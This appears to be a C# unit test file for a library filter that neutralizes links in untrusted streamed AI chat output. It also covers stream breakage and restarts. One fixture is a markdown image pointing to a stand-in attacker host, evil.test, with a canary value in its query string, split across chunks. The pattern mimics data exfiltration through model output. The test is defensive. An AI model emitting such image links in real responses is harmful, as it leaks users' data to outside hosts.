using Microsoft.Extensions.AI;
using TierKit.Chat;
using TierKit.Policy;

namespace TierKit.Tests.Chat;

/// <summary>A stream with links made inert loses nothing else of what was streamed.</summary>
public sealed class SafeUpdatesTests
{
    private static readonly string[] Pieces = ["They swim ![a](htt", "ps://evil.test/p.png?d=CAN", "ARY) far."];

    [Fact]
    public async Task WithSafeText_Untrusted_IsInertAndKeepsLabelsAndOtherContents()
    {
        List<ChatResponseUpdate> shown = [];
        await foreach (ChatResponseUpdate update in StreamAsync(Integrity.Untrusted).WithSafeText())
        {
            shown.Add(update);
        }

        Assert.Equal("They swim a (link to evil.test removed) far.", string.Concat(shown.Select(static u => u.Text)));
        TextContent[] texts = [.. shown.SelectMany(static u => u.Contents).OfType<TextContent>()];
        Assert.NotEmpty(texts);
        Assert.All(texts, static t => Assert.Equal(Integrity.Untrusted, t.AdditionalProperties![RouteOptionNames.Integrity]));
        Assert.Single(shown.SelectMany(static u => u.Contents).OfType<UsageContent>());
    }

    [Fact]
    public async Task WithSafeText_Trusted_IsTheSameUpdates()
    {
        List<ChatResponseUpdate> given = [];
        List<ChatResponseUpdate> shown = [];
        await foreach (ChatResponseUpdate update in NoteAsync(StreamAsync(null), given).WithSafeText())
        {
            shown.Add(update);
        }

        Assert.Equal(4, given.Count);
        Assert.Equal(given, shown);
    }

    [Fact]
    public async Task WithSafeText_StreamBreaksOff_ShowsWhatWasHeldBackAndThenFails()
    {
        string shown = "";
        async Task ReadAsync()
        {
            await foreach (ChatResponseUpdate update in BrokenAsync("one two", restart: false).WithSafeText())
            {
                shown += update.Text;
            }
        }

        await Assert.ThrowsAsync<TimeoutException>(ReadAsync);
        Assert.Equal("one two", shown);
    }

    [Fact]
    public async Task WithSafeText_StreamStartsAnew_DropsWhatWasHeldBack()
    {
        string shown = "";
        bool restarted = false;
        async Task ReadAsync()
        {
            await foreach (ChatResponseUpdate update in BrokenAsync("one two", restart: true).WithSafeText())
            {
                restarted |= StreamRestart.IsRestart(update);
                shown += update.Text;
            }
        }

        await Assert.ThrowsAsync<TimeoutException>(ReadAsync);
        Assert.True(restarted);
        Assert.Equal("one ", shown);
    }

    private static async IAsyncEnumerable<ChatResponseUpdate> StreamAsync(Integrity? integrity)
    {
        foreach (string piece in Pieces)
        {
            await Task.Yield();
            yield return Update(piece, integrity);
        }

        yield return new ChatResponseUpdate { Contents = [new UsageContent(new UsageDetails())] };
    }

    private static async IAsyncEnumerable<ChatResponseUpdate> BrokenAsync(string text, bool restart)
    {
        await Task.Yield();
        yield return Update(text, Integrity.Untrusted);
        if (restart)
        {
            yield return StreamRestart.CreateUpdate();
        }

        throw new TimeoutException();
    }

    private static async IAsyncEnumerable<ChatResponseUpdate> NoteAsync(IAsyncEnumerable<ChatResponseUpdate> updates, List<ChatResponseUpdate> given)
    {
        await foreach (ChatResponseUpdate update in updates)
        {
            given.Add(update);
            yield return update;
        }
    }

    private static ChatResponseUpdate Update(string text, Integrity? integrity) => new(
        ChatRole.Assistant,
        [new TextContent(text) { AdditionalProperties = integrity is { } label ? new AdditionalPropertiesDictionary { [RouteOptionNames.Integrity] = label } : null }]);
}
